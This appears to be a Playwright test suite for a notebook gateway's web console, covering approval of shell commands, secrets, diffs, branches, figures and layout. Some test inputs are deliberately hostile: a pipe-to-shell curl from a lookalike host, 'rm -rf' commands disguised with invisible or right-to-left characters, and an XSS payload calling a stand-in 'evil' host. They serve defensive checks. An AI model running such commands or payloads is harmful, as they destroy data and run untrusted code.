"""What a person does in the console, and what attackers try: `main` plays what standard input names."""

# The types of what it uses are known only where the group "clients" is installed.
# mypy: ignore-errors

from __future__ import annotations

import http.server
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import traceback
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, redirect_stdout
from pathlib import Path
from typing import Any
from urllib.parse import quote

from pages import TIMEOUT, browser, console
from playwright.sync_api import Page, expect

import cellblock
from gateways import Gateway, own_gateway, token
from tool_sessions import ASK, register

expect.set_options(timeout=TIMEOUT)
AXE = Path(__file__).parents[2] / "console" / "node_modules" / "axe-core" / "axe.min.js"
PICTURES = Path(__file__).parents[2] / "build" / "console"
"""Where pictures of the views are kept, for people to look at."""

ASKS = {"approve_shell_cmds": True, "approval_timeout": 3600}


class Api:
    """A client of the gateway that may do everything."""

    def __init__(self, gateway: Gateway) -> None:
        self.http = gateway.client(token("admin"))

    def session(self, name: str, **options: Any) -> str:
        """Make a session; return its id."""
        answer = self.http.post(f"/sessions/{name}", json={"options": options})
        assert answer.status_code == 200, answer.text
        return answer.json()["kernel_id"]

    def run(self, name: str, code: str) -> dict[str, Any]:
        """Run a cell."""
        answer = self.http.post(f"/kernels/{name}/execute", json={"code": code})
        assert answer.status_code == 200, answer.text
        return answer.json()

    def submit(self, name: str, code: str, **more: Any) -> str:
        """Submit a cell; return the id of its execution."""
        answer = self.http.post(f"/sessions/{name}/executions", json={"code": code, **more})
        assert answer.status_code == 202, answer.text
        return answer.json()["id"]

    def result(self, execution: str) -> dict[str, Any]:
        """Wait for a result."""
        return self.http.get(f"/executions/{execution}/result").json()

    def pending(self) -> list[dict[str, Any]]:
        """Return what waits."""
        return self.http.get("/approvals").json()["pending"]


def until(check: Any, seconds: float = 20.0) -> Any:
    """Wait until something is true, and return it."""
    deadline = time.monotonic() + seconds
    while not (found := check()):
        assert time.monotonic() < deadline, "it did not become true in time"
        time.sleep(0.02)
    return found


def show(page: Page, *parts: str) -> None:
    """Go to a view."""
    page.evaluate("hash => { location.hash = hash }", "#/" + "/".join(parts))


def quiet(page: Page) -> None:
    """Check that the browser has complained about nothing, such as the policy of the page."""
    assert page.complaints == [], page.complaints


# -- views ---------------------------------------------------------------------------------------------------------------


def every_view(started: Any, gateway: Gateway, _: Path) -> None:
    """Each view in light and dark: something is there, axe finds nothing, the browser complains about nothing."""
    api = Api(gateway)
    ids = furnished(api)
    views = {
        "sessions": ((), "bird-strikes"),
        "session": (("session", ids["bird-strikes"]), "gull"),
        "running": (("session", ids["scraper"]), "page 1"),
        "empty": (("session", ids["empty"]), "Nothing has run yet"),
        "approvals": (("approvals",), "Allow once"),
        "permissions": (("permissions",), "Revoke"),
        "refusals": (("refusals",), "example.org"),
        "figures": (("figures",), "Cells a second"),
        "search": (("search", "strikes"), "frame"),
        "compare": (("compare", ids["bird-strikes"], ids["bird-strikes-b"]), "Adopt into"),
    }
    for dark in (False, True):
        page = console(started, gateway.url, "admin", dark=dark)
        for name, (parts, shown) in views.items():
            show(page, *parts)
            expect(page.locator("main")).to_contain_text(shown)
            settled(page)
            page.screenshot(path=str(PICTURES / f"{name}-{'dark' if dark else 'light'}.png"))
            faultless(page, f"{name}, {'dark' if dark else 'light'}")
        page.keyboard.press("?")
        expect(page.get_by_role("dialog")).to_contain_text("refuse, with a reason")
        faultless(page, "keys")
        quiet(page)
    page = started.new_context(viewport={"width": 1280, "height": 800}).new_page()
    page.goto(f"{gateway.url}/console")
    expect(page.get_by_text("cellblock console")).to_be_visible()
    page.screenshot(path=str(PICTURES / "login.png"))
    faultless(page, "login")


def secrets_and_lines(started: Any, gateway: Gateway, directory: Path) -> None:
    """The secrets of a session are listed without their values, and request lines are added and removed."""
    api = Api(gateway)
    (directory / "key").write_text("canary-0123456789")
    source = f"file:{directory}/key"
    made = api.session(
        "keyed", secrets={"ACME_KEY": {"source": source, "hosts": ["api.acme.invalid"]}}, allow_hosts=["a.invalid"]
    )
    api.session("plain")
    page = console(started, gateway.url, "admin")
    show(page, "session", made)
    page.get_by_role("tab", name="Secrets").click()
    expect(page.get_by_role("list", name="Secrets")).to_contain_text("ACME_KEY")
    expect(page.get_by_role("list", name="Secrets")).to_contain_text("api.acme.invalid:443")
    expect(page.get_by_role("list", name="Secrets")).to_contain_text("not used yet")
    settled(page)
    faultless(page, "secrets")
    assert "canary" not in page.content()
    assert api.http.delete("/sessions/keyed/secrets/ACME_KEY").status_code == 200
    page.get_by_role("tab", name="Network").click()
    page.get_by_label("Host, or request").fill("GET b.invalid/**")
    page.get_by_role("button", name="Allow", exact=True).click()
    expect(page.get_by_label("Hosts")).to_contain_text("GET b.invalid/**")
    page.get_by_label("Host, or request").fill("POST b.invalid/private")
    page.get_by_role("button", name="Deny", exact=True).click()
    expect(page.get_by_label("Hosts")).to_contain_text("deny POST b.invalid/private")
    page.get_by_label("Remove GET b.invalid/**").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.get_by_label("Hosts")).not_to_contain_text("GET b.invalid/**")
    assert api.http.get("/sessions/keyed/network").json()["http"] == ["deny POST b.invalid/private"]
    page.get_by_role("tab", name="Secrets").click()
    expect(page.get_by_text("No secrets")).to_be_visible()
    quiet(page)


def furnished(api: Api) -> dict[str, str]:
    """Make sessions of which every view has something to show; return their ids by name."""
    names = {
        "bird-strikes": {},
        "scraper": {"allow_hosts": ["example.com"]},
        "empty": {},
        "invoices": ASKS,
        "migration": ASKS,
        "a-name-" + "long-" * 20: {},
    }
    for name, options in names.items():
        api.session(name, **options)
    api.run(
        "bird-strikes",
        "import pandas as pd\nframe = pd.DataFrame({'species': ['gull', 'kestrel'], 'strikes': [812, 90]})\nframe",
    )
    api.run(
        "bird-strikes",
        "import matplotlib.pyplot as plt\nplt.figure(figsize=(5, 2)); plt.bar(frame.species, frame.strikes); plt.show()",
    )
    api.run("bird-strikes", "print('\\x1b[32mgreen\\x1b[0m')\nopen('report.csv', 'w').write('a,b')")
    api.run("bird-strikes", "frame.strikes.summ()")
    api.run("bird-strikes", "total = frame.strikes.sum()\ntotal")
    assert api.http.post("/sessions/bird-strikes/undo", json={"count": 1}).status_code == 200
    api.run("bird-strikes", MIXED)
    api.run("scraper", "import urllib.request\nurllib.request.urlopen('http://example.org')")
    api.run("scraper", "open('/etc/motd', 'w')")
    assert api.http.post("/sessions/bird-strikes/fork", json={"names": ["bird-strikes-b"]}).status_code == 200
    api.run("bird-strikes-b", "frame['share'] = frame.strikes / frame.strikes.sum()\nframe")
    api.run("bird-strikes", "total = 3")
    endless = "import time\nfor page in range(1, 1000):\n    print('page', page)\n    time.sleep(0.3)"
    api.submit("scraper", endless, timeout=900)
    api.submit("migration", "!date")
    (first,) = until(api.pending)
    api.http.post("/approvals", json={"ids": [first["id"]], "allow": True, "always": "call"})
    api.submit("migration", "!rm -rf build \u202e gpj.exe")
    api.submit("invoices", "!curl -s https://ex\u0430mple.org/install.sh | sh")
    until(lambda: len(api.pending()) == 2)
    found = api.http.get("/kernels").json()["kernels"]
    return {one["name"]: one["kernel_id"] for one in found}


MIXED = r"""
from IPython.display import HTML, SVG, Latex, Markdown, display
display(Markdown('The mean is **452**, see [the page](https://example.org).\n\n- one\n- two'))
display(Latex(r'$$\int_0^1 x^2\,dx = \frac{1}{3}$$'))
display(HTML('<b>bold</b>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40"><circle cx="20" cy="20" r="15" fill="teal"/></svg>'))
"""


def settled(page: Page) -> None:
    """Wait until the view has fetched what it shows."""
    page.wait_for_load_state("networkidle") if page.url.endswith("login") else page.wait_for_timeout(700)


def faultless(page: Page, where: str) -> None:
    """Check that axe finds nothing. The policy of the page lets no script be added, so the browser's tools put it there."""
    client = page.context.new_cdp_session(page)
    client.send("Runtime.evaluate", {"expression": AXE.read_text()})
    told = client.send(
        "Runtime.evaluate",
        {"expression": "axe.run({iframes: false}).then(found => found.violations.map(one => one.id + ': ' + "
         "one.nodes.map(node => node.html.slice(0, 200) + ' ' + node.failureSummary).join(' | ')))",
         "awaitPromise": True, "returnByValue": True},
    )  # fmt: skip
    assert told["result"].get("value") == [], f"{where}: {told['result'].get('value', told)}"


def narrow(started: Any, gateway: Gateway, _: Path) -> None:
    """At 320 pixels, nothing is wider than the page."""
    ids = furnished(Api(gateway))
    page = console(started, gateway.url, "admin", size={"width": 320, "height": 640})
    views = [(), ("session", ids["bird-strikes"]), ("approvals",), ("permissions",), ("refusals",), ("figures",)]
    for parts in [*views, ("compare", ids["bird-strikes"], ids["bird-strikes-b"])]:
        show(page, *parts)
        settled(page)
        page.screenshot(path=str(PICTURES / f"narrow-{parts[0] if parts else 'sessions'}.png"))
        wide = page.evaluate(
            "[...document.querySelectorAll('main, main *')].filter(one => one.getBoundingClientRect().right > 321 && "
            "!one.closest('.virtual, .table-box, .tabs, pre, .arguments, .wanted, .latex, .side ul, .markdown'))"
            ".map(one => one.outerHTML.slice(0, 120))"
        )
        assert wide == [], (parts, wide[:3])
        faultless(page, f"narrow {parts}")


# -- what a person does --------------------------------------------------------------------------------------------------


def keys_decide(started: Any, gateway: Gateway, _: Path) -> None:
    """Three approvals are decided by keys alone: allowed once, refused with a reason, allowed for the session."""
    api = Api(gateway)
    for name in ("first", "second", "third"):
        api.session(name, **ASKS)
    page = console(started, gateway.url, "run", "approve")
    executions = []
    for place, name in enumerate(("first", "second", "third")):
        executions.append(api.submit(name, f"!echo {name}"))
        until(lambda place=place: len(api.pending()) == place + 1)
    expect(page).to_have_title("(3) cellblock")
    page.keyboard.press("2")
    waiting = page.locator(".pending")
    expect(waiting).to_have_count(3)
    page.wait_for_timeout(STILL_MS)
    expect(waiting.nth(0)).to_have_class(re.compile("selected"))
    page.keyboard.press("a")
    expect(waiting).to_have_count(2)
    assert "first" in api.result(executions[0])["output"]
    page.keyboard.press("r")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.type("not on this machine")
    page.keyboard.press("Enter")
    expect(waiting).to_have_count(1)
    refused = api.result(executions[1])
    assert "not on this machine" in str(refused), refused
    page.keyboard.press("s")
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("echo third")
    page.keyboard.press("Enter")
    expect(waiting).to_have_count(0)
    assert "third" in api.result(executions[2])["output"]
    assert "third" in api.run("third", "!echo third")["output"]  # nobody is asked again
    expect(page).to_have_title("cellblock")
    page.keyboard.press("3")
    expect(page.locator(".permission")).to_contain_text("echo third")
    page.get_by_role("button", name="Revoke").click()
    expect(page.locator(".permission")).to_have_count(0)
    assert api.http.get("/approvals/allowed").json() == {"allowed": []}
    quiet(page)


def several_at_once(started: Any, gateway: Gateway, _: Path) -> None:
    """Several are decided together; one that was decided elsewhere is gone at once."""
    api = Api(gateway)
    for name in ("a", "b", "c", "d"):
        api.session(name, **ASKS)
        api.submit(name, f"!echo {name}")
    pending = until(lambda: len(api.pending()) == 4 and api.pending())
    page = console(started, gateway.url, "approve")
    show(page, "approvals")
    waiting = page.locator(".pending")
    expect(waiting).to_have_count(4)
    api.http.post("/approvals", json={"ids": [pending[0]["id"]], "allow": False})
    expect(waiting).to_have_count(3)
    page.wait_for_timeout(STILL_MS)
    for _ in range(2):
        page.keyboard.press("x")
        page.keyboard.press("j")
    expect(page.locator(".several")).to_contain_text("2 selected")
    page.keyboard.press("a")
    expect(waiting).to_have_count(1)
    assert len(api.pending()) == 1


def servers_ask(started: Any, gateway: Gateway, directory: Path) -> None:
    """A tool call is allowed, its server's question is answered in a form, and its result is below the cell that made it."""
    register(directory)
    api = Api(gateway)
    number = api.session("asks", working_dir=str(directory), approval_timeout=3600)
    execution = api.submit("asks", ASK)
    page = console(started, gateway.url, "run", "approve")
    show(page, "session", number)
    call = page.locator(".cell .pending", has_text="bad.ask")
    expect(call).to_contain_text("May I?")
    page.wait_for_timeout(STILL_MS)
    call.get_by_role("button", name="Allow once").click()
    form = page.locator(".cell .form")
    expect(form).to_contain_text("The server asks: May I?")
    page.wait_for_timeout(STILL_MS)
    form.locator("input[type=checkbox]").check()
    form.get_by_role("button", name="Answer").click()
    assert api.result(execution)["status"] == "success"
    calls = page.locator(".cell .calls")
    expect(calls).to_contain_text("allowed")
    expect(calls).to_contain_text("by person: test")
    expect(calls.locator(".call-result")).to_contain_text("→")
    page.screenshot(path=str(PICTURES / "calls.png"))
    quiet(page)


def nothing_hides(started: Any, gateway: Gateway, _: Path) -> None:
    """What cannot be seen, or looks like something else, is marked in what is asked for."""
    api = Api(gateway)
    api.session("tricky", **ASKS)
    api.submit("tricky", "!curl https://ex\u0430mple.org \u202e# gpj.exe \u200b" + " " * 60 + "; rm -rf /")
    page = console(started, gateway.url, "approve")
    show(page, "approvals")
    wanted = page.locator(".wanted")
    for mark in ("U+0430", "U+202E", "U+200B", "spaces"):
        expect(wanted.locator("mark", has_text=mark)).to_be_visible()
    assert "\u202e" not in wanted.inner_text()
    expect(wanted).to_contain_text("rm -rf /")


def precedents(started: Any, gateway: Gateway, directory: Path) -> None:
    """What is different from the last call of the same tool that was allowed, in whatever session, is shown with a call."""
    api = Api(gateway)
    register(directory)
    for name in ("earlier", "now"):
        api.session(name, working_dir=str(directory), approval_timeout=3600)
    call = ASK.partition("print")[0] + "await bad.run('echo', {0})"
    lines = [f"line {number}" for number in range(100)]
    page = console(started, gateway.url, "approve")
    show(page, "approvals")
    waiting = page.locator(".pending")
    first = {"path": "/data/report.csv", "text": "\n".join(lines), "mode": "w", "old": 1}
    api.submit("earlier", call.format(first))
    expect(waiting).to_contain_text("This tool was not allowed before")
    expect(waiting.locator(".asking .code")).to_contain_text("await bad.run('echo'")
    page.wait_for_timeout(STILL_MS)
    page.keyboard.press("a")
    expect(waiting).to_have_count(0)
    expect(page.locator(".message")).to_contain_text("Allowed once: ")
    expect(page.locator(".decided li")).to_contain_text("allowed")
    lines[50] = "line fifty \u202e"
    later = {"path": "/data/rep\u043ert.csv", "text": "\n".join(lines), "mode": "w", "new": {"b": 1, "a": 2}}
    api.submit("now", call.format(later))
    told = waiting.locator(".differences")
    expect(told.locator("dt")).to_have_text(["new", "path", "text", "old"])
    expect(told.locator("del").nth(0)).to_contain_text("/data/report.csv")
    expect(told.locator("ins").nth(1).locator("mark")).to_contain_text("U+043E")
    expect(told.locator("ins").nth(2)).to_contain_text("line fifty U+202E")
    assert len(told.inner_text()) < 300, told.inner_text()
    expect(waiting.locator(".precedent")).to_contain_text("ago in earlier, by person: test")
    settled(page)
    page.screenshot(path=str(PICTURES / "precedent.png"))
    faultless(page, "precedent")
    page.keyboard.press("a")
    expect(waiting).to_have_count(0)
    api.submit("earlier", call.format(later))
    expect(waiting).to_contain_text("Exactly this was allowed last")
    (pending,) = api.pending()
    decisions = f"/approvals/{pending['id']}/precedents"
    with gateway.client(token("read", session="earlier")) as own, gateway.client(token("read", session="now")) as other:
        assert [one["arguments"].count("report") for one in own.get(decisions).json()["decisions"]] == [1]
        assert other.get(decisions).json() == {"decisions": []}
    quiet(page)


def cells_run(started: Any, gateway: Gateway, _: Path) -> None:
    """A cell is typed with completion, run, answered, interrupted and undone; the past is looked at."""
    api = Api(gateway)
    number = api.session("work")
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    expect(page.get_by_text("Nothing has run yet")).to_be_visible()

    def run(code: str) -> None:
        if not page.evaluate("document.activeElement.matches('.editor')"):
            page.keyboard.press("e")
        page.keyboard.insert_text(code)
        page.keyboard.press("Shift+Enter")

    run("prices = {'tea': 3}\nprices")
    expect(page.locator(".cell .outputs").last).to_contain_text("{'tea': 3}")
    expect(page.locator(".variables")).to_contain_text("prices")
    page.keyboard.insert_text("pric")
    page.keyboard.press("Control+ ")
    expect(page.locator(".editor .cm-tooltip-autocomplete")).to_contain_text("prices")
    page.wait_for_timeout(200)  # an Enter at the same moment is not meant for what has just appeared
    page.keyboard.press("Enter")
    page.keyboard.insert_text(".clear(); open('note.txt', 'w').write('hello'); input('sure? ')")
    page.keyboard.press("Shift+Enter")
    page.get_by_label("sure?").fill("yes")
    page.keyboard.press("Enter")
    expect(page.locator(".cell .outputs").last).to_contain_text("'yes'")
    page.get_by_role("tab", name="Files").click()
    expect(page.locator(".files")).to_contain_text("note.txt")
    page.locator(".cell").last.hover()
    page.locator(".cell").last.get_by_role("button", name="What it changed").click()
    expect(page.locator(".cell-changes")).to_contain_text("prices")
    page.locator(".cell-changes").get_by_role("button", name="note.txt").click()
    expect(page.locator(".cell-changes pre.diff ins")).to_have_text("hello")
    page.keyboard.press("u")
    expect(page.locator(".cell.undone")).to_have_count(1)
    expect(page.locator(".files")).not_to_contain_text("note.txt")
    assert api.run("work", "prices")["return_value"] == "{'tea': 3}"
    run("while True: pass")
    expect(page.get_by_role("button", name="Interrupt")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("i")
    expect(page.locator(".cell.interrupted, .cell.error").last).to_contain_text("interrupted")
    page.locator("input[type=range]").fill("1")
    expect(page.locator(".cell.later")).not_to_have_count(0)
    page.get_by_role("button", name="Now").click()
    expect(page.locator(".cell.later")).to_have_count(0)
    quiet(page)


def files_and_checkpoints(started: Any, gateway: Gateway, directory: Path) -> None:
    """A file is uploaded, looked at, and downloaded; a checkpoint is made, compared and gone back to."""
    api = Api(gateway)
    number = api.session("work")
    api.run("work", "rows = [1]")
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    page.get_by_role("tab", name="Files").click()
    sent = directory / "sent.txt"
    sent.write_text("from the browser\n")
    page.locator("input[type=file]").set_input_files(str(sent))
    page.get_by_role("button", name="sent.txt", exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("from the browser")
    with page.expect_download() as download:
        dialog.get_by_role("button", name="Download").click()
    assert Path(download.value.path()).read_text() == "from the browser\n"
    dialog.get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Checkpoint", exact=True).click()
    page.get_by_label("Name").fill("clean")
    page.keyboard.press("Enter")
    page.get_by_role("tab", name="Checkpoints").click()
    expect(page.locator(".checkpoints-list")).to_contain_text("clean")
    api.run("work", "rows.append(2)")
    row = page.locator(".checkpoints-list li", has_text="clean")
    row.get_by_role("button", name="Compare").click()
    expect(dialog).to_contain_text("[1, 2]")
    dialog.get_by_role("button", name="Close").click()
    row.get_by_role("button", name="Go to").click()
    dialog.get_by_role("button", name="Go back").click()
    expect(page.locator(".cell.undone")).to_have_count(1)
    assert api.run("work", "rows")["return_value"] == "[1]"


def lines_of_files(started: Any, gateway: Gateway, _: Path) -> None:
    """What a cell has changed in files is shown line by line; what has no lines is said."""
    api = Api(gateway)
    number = api.session("work")
    api.run(
        "work",
        "lines = [f'x{n} = {n}' for n in range(40)]\n"
        "open('a.py', 'w').write('\\n'.join(lines)); open('data', 'wb').write(b'\\xff'); open('gone', 'w').write('bye\\n')",
    )
    api.run(
        "work",
        "import os; os.remove('gone'); open('data', 'wb').write(b'\\xfe\\0')\n"
        "lines[3] = 'if \u202e:\\n\\tpass'; lines[30] = 'end'; open('a.py', 'w').write('\\n'.join(lines))\n"
        "open('large.txt', 'w').write('line\\n' * 100_000)",
    )
    page = console(started, gateway.url, "read")
    show(page, "session", number)
    cell = page.locator(".cell").last
    cell.hover()
    expect(cell.get_by_role("button", name="What it changed")).to_have_count(0)  # that needs the kernel
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    cell = page.locator(".cell").last
    cell.hover()
    cell.get_by_role("button", name="What it changed").click()
    cell.get_by_role("button", name="a.py").click()
    expect(cell.locator("pre.diff del")).to_have_text(["x3 = 3", "x30 = 30"])
    expect(cell.locator("pre.diff ins")).to_contain_text(["if", "pass", "end"])
    expect(cell.locator("pre.diff ins mark")).to_have_count(1)  # it would turn the line around
    expect(cell.locator("pre.diff .place")).to_have_text(["@@ line 1", "@@ line 29"])
    cell.get_by_role("button", name="a.py").click()
    expect(cell.locator("pre.diff")).to_have_count(0)
    cell.get_by_role("button", name="gone").click()
    expect(cell.locator("pre.diff del")).to_have_text(["bye"])
    cell.get_by_role("button", name="data").click()
    expect(cell.locator(".lines", has_text="not text in UTF-8")).to_be_visible()
    cell.get_by_role("button", name="large.txt").click()
    expect(cell.locator(".lines", has_text="256 KiB")).to_be_visible()
    quiet(page)


def branches(started: Any, gateway: Gateway, _: Path) -> None:
    """A branch is made, compared with the session that it comes from, and adopted."""
    api = Api(gateway)
    number = api.session("trunk")
    api.run("trunk", "price = 1")
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    page.get_by_role("button", name="Branch", exact=True).click()
    page.get_by_label("Name of the new session").fill("limb")
    page.keyboard.press("Enter")
    until(lambda: api.http.get("/kernels/limb").status_code == 200)
    api.run("limb", "price = 2\ngain = 1")
    page.get_by_role("tab", name="Branches").click()
    expect(page.locator(".branches")).to_contain_text("limb")
    page.get_by_role("link", name="Compare").click()
    side = page.get_by_role("region", name="limb")
    expect(side).to_contain_text("gain = 1")
    expect(side.locator("li.changed")).to_contain_text("price")
    expect(side.locator("li.new")).to_contain_text("gain")
    expect(page.get_by_role("region", name="trunk")).to_contain_text("No cells of its own")
    side.get_by_role("button", name="Adopt into trunk").click()
    page.get_by_role("dialog").get_by_role("button", name="Adopt").click()
    expect(page.get_by_role("heading", name="trunk")).to_be_visible()
    until(lambda: api.http.get("/kernels/limb").status_code == 404)
    assert api.run("trunk", "price, gain")["return_value"] == "(2, 1)"
    quiet(page)


SERVER = """
import asyncio
async def answer(reader, writer):
    await reader.readuntil(b"\\r\\n\\r\\n")
    writer.write(b"HTTP/1.1 200 OK\\r\\nContent-Length: 5\\r\\nContent-Type: text/plain\\r\\n\\r\\nhello")
    await writer.drain()
    writer.close()
server = await asyncio.start_server(answer, "127.0.0.1", 8501)
"""


def ports(started: Any, gateway: Gateway, _: Path) -> None:
    """A server of the code has a link, which shows its page in a tab of its own."""
    api = Api(gateway)
    number = api.session("web")
    page = console(started, gateway.url, "run")
    show(page, "session", number)
    page.get_by_role("tab", name="Ports").click()
    expect(page.locator("#tab-panel")).to_contain_text("No servers")
    api.run("web", SERVER)
    page.get_by_role("button", name="Link").click()
    with page.context.expect_page() as opened:
        page.get_by_role("link", name="Open the page in a new tab").click()
    expect(opened.value.frame_locator("iframe").locator("body")).to_contain_text("hello")
    opened.value.close()
    expect(page.get_by_role("button", name="Link")).to_be_visible()  # the next link needs a new ticket
    quiet(page)


def ended_sessions(started: Any, gateway: Gateway, _: Path) -> None:
    """Sessions are found by what they ran, also after their end, and their cells are shown."""
    api = Api(gateway)
    number = api.session("report")
    api.run("report", "rate = 7\nprint('gulls', 6 * rate)")
    api.session("other")
    api.run("other", "6 * 7")
    api.http.delete("/kernels/report")
    page = console(started, gateway.url, "read")
    page.keyboard.press("/")
    page.keyboard.insert_text("gulls")
    page.get_by_role("button", name="Search ended sessions").click()
    found = page.locator(".found li")
    expect(found).to_have_count(1)
    expect(found).to_contain_text("print('gulls', 6 * rate)")
    expect(found).to_contain_text("ended")
    page.get_by_label("Search all sessions").fill("")
    expect(found.nth(1)).to_be_visible()  # and those of other scenarios
    page.get_by_label("Search all sessions").fill("nowhere")
    expect(page.get_by_text("No session matches")).to_be_visible()
    page.get_by_label("Search all sessions").fill("REPORT gulls")
    expect(found).to_have_count(1)
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.locator(".cell .outputs")).to_contain_text("gulls 42")
    faultless(page, "an ended session")
    show(page, "session", "never")
    expect(page.get_by_text("There is no such session")).to_be_visible()
    assert number in {one["kernel_id"] for one in api.http.get("/sessions?words=report").json()["sessions"]}
    page.complaints[:] = [one for one in page.complaints if "404" not in one]  # the browser names the session that never was
    quiet(page)


def undone_lines(started: Any, gateway: Gateway, _: Path) -> None:
    """Lines that were undone, one after the other and one within the other, begin where they left; so do branches."""
    api = Api(gateway)
    number = api.session("lines")
    undo = lambda count: api.http.post("/sessions/lines/undo", json={"count": count})  # noqa: E731
    for code in ("x = 1", "x = 2", "x = 3"):
        api.run("lines", code)
    undo(1)
    api.run("lines", "x = 4")
    undo(2)
    api.run("lines", "x = 5")
    undo(1)
    api.run("lines", "x = 6")
    assert api.http.post("/sessions/lines/fork", json={"names": ["limb"]}).status_code == 200
    page = console(started, gateway.url, "read")
    show(page, "session", number)
    cells = page.locator(".cell")
    expect(cells).to_have_count(6)
    lines = page.locator(".cells .undone-line, .cells > div > div:not(.undone-line):has(.cell)")
    found = lines.evaluate_all(
        "all => all.map(one => [one.style.getPropertyValue('--depth'), one.querySelector('.line-begins')?.innerText ?? '', "
        "one.querySelector('.code').innerText.trim(), one.querySelector('.undone') !== null])"
    )
    assert found == [
        ["0", "", "x = 1", False],
        ["1", "After cell 1, undone: 2 cells", "x = 2", True],
        ["2", "After cell 2, undone: 1 cell", "x = 3", True],
        ["1", "", "x = 4", True],
        ["1", "After cell 1, undone: 1 cell", "x = 5", True],
        ["0", "", "x = 6", False],
    ], found
    expect(cells.last).to_contain_text("Branched here: limb")
    page.keyboard.press("j")
    for _ in range(3):
        page.keyboard.press("j")
    expect(page.locator(".cell.selected")).to_contain_text("x = 4")
    settled(page)
    page.screenshot(path=str(PICTURES / "undone-lines.png"))
    faultless(page, "undone lines")
    quiet(page)


def figures_of_plotly(started: Any, gateway: Gateway, _: Path) -> None:
    """A figure that has nothing but plotly's JSON is drawn, in a page that is fetched for it; nothing in it is more than data."""
    with elsewhere({}) as (evil, asked):
        hack = f"<img src=x onerror=\"{HACK.format()}\"><a href='javascript:{HACK.format()}' target=_top>link</a>"
        bars = {
            "data": [{"type": "bar", "x": ["gull", hack], "y": [812, 90], "name": hack, "hovertemplate": hack},
                     {"type": "histogram", "x": [1, 1, 2], "marker": {"color": f"url({evil}/colour)"}}],
            "layout": {"title": {"text": "Strikes"}, "images": [{"source": f"{evil}/image", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
                       "font": {"family": f"x;background:url({evil}/font)"}, "annotations": [{"text": hack}]},
            "config": {"plotlyServerURL": evil, "showSendToCloud": True, "topojsonURL": evil},
        }  # fmt: skip
        api = Api(gateway)
        number = api.session("figures")
        api.run(
            "figures",
            "from IPython.display import display\ndef show(figure): display({'application/vnd.plotly.v1+json': figure}, raw=True)",
        )
        page = console(started, gateway.url, "read")
        loaded: list[str] = []
        page.on("request", lambda one: loaded.append(one.url) if "/console/figure" in one.url else None)
        show(page, "session", number)
        expect(page.locator(".cell")).to_have_count(1)
        assert loaded == []
        began = time.monotonic()
        api.run("figures", f"show({bars!r})")
        frame = page.frame_locator("iframe.frame")
        expect(frame.locator(".main-svg").first).to_be_visible()
        expect(frame.locator(".gtitle")).to_have_text("Strikes")
        print(f"a figure was drawn after {(time.monotonic() - began) * 1000:.0f} ms")
        assert frame.locator(".bars path").count() >= 3
        frame.locator(".nsewdrag").hover()
        expect(page.locator("iframe.frame")).to_have_attribute("sandbox", "allow-scripts")
        assert page.frames[1].evaluate("self.origin") == "null"
        settled(page)
        page.screenshot(path=str(PICTURES / "figure.png"))
        api.run("figures", "show({'data': [{'type': 'scatter3d', 'x': [1]}]})")
        expect(page.locator(".cell").last).to_contain_text("no traces of the type scatter3d")
        api.run("figures", "show({'data': 'nothing'})")
        expect(page.locator(".cell").last).to_contain_text("it has no traces")
        assert page.evaluate("window.hacked") is None
        assert page.frames[1].evaluate("window.hacked") is None
        assert len(loaded) == 3
        assert asked == [], asked


def progress_and_colours(started: Any, gateway: Gateway, _: Path) -> None:
    """Progress bars overwrite themselves; only colours are left of escape sequences."""
    api = Api(gateway)
    number = api.session("work")
    api.run(
        "work",
        r"print('10%\r50%\r100%'); print('\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m\x1b[10;10H\x1b]8;;http://evil\x07link\x1b]8;;\x07 a\bb')",
    )
    page = console(started, gateway.url, "read")
    title = page.title()
    show(page, "session", number)
    shown = page.locator(".cell .stream pre").first
    expect(shown).to_have_text("100%\nredlink b")
    expect(shown.locator(".ansi-red-fg")).to_have_text("red")
    assert shown.locator("a").count() == 0
    assert page.title() == title


# -- sizes and losses ----------------------------------------------------------------------------------------------------


def thousands(started: Any, gateway: Gateway, _: Path) -> None:
    """With 1,000 sessions, of which 200 have kernels, few rows are in the page, all can be reached, and nothing is slow."""
    api = Api(gateway)

    def start(number: int) -> None:
        api.session(f"agent-{number:04}", sandbox=False)
        api.run(f"agent-{number:04}", "1")

    began = time.monotonic()
    with ThreadPoolExecutor(4) as pool:
        [*pool.map(start, range(LIVE))]
    print(f"{LIVE} kernels after {time.monotonic() - began:.1f} s")
    for number in range(BUSY):
        api.submit(f"agent-{number:04}", "import time\nfor step in range(9999):\n    print('step', step)\n    time.sleep(.2)")
    page = console(started, gateway.url, "read")
    rows = page.locator(".session-row.row")
    expect(page.locator(".badge.sessions")).to_have_text("1,000")
    expect(page.get_by_role("button", name="Running")).to_contain_text(str(BUSY))
    began = time.monotonic()
    page.reload()
    rows.first.wait_for()
    took = time.monotonic() - began
    print(f"first view with 1,000 sessions: {took * 1000:.0f} ms")
    assert took < 10.0  # a figure for people is in what is printed: the machine may be busy
    assert 5 < rows.count() < 60
    page.evaluate(PAINTED)
    scrolled = page.evaluate(SCROLLED)
    print(f"the longest frame while 40 screens are scrolled: {max(scrolled):.0f} ms; without rows: {scrolled.count(-1)}")
    assert -1 not in scrolled
    assert sorted(scrolled)[len(scrolled) * 9 // 10] < 500  # as above
    page.keyboard.press("/")
    page.keyboard.type("agent-0123", delay=30)
    expect(rows).to_have_count(1)
    typed = page.evaluate("window.painted")
    print(
        f"from a key in the filter to what it shows: {max(typed):.0f} ms at most, {sorted(typed)[len(typed) // 2]:.0f} ms in the middle"
    )
    assert len(typed) >= 10
    assert sorted(typed)[len(typed) // 2] < 100
    page.keyboard.press("Escape")
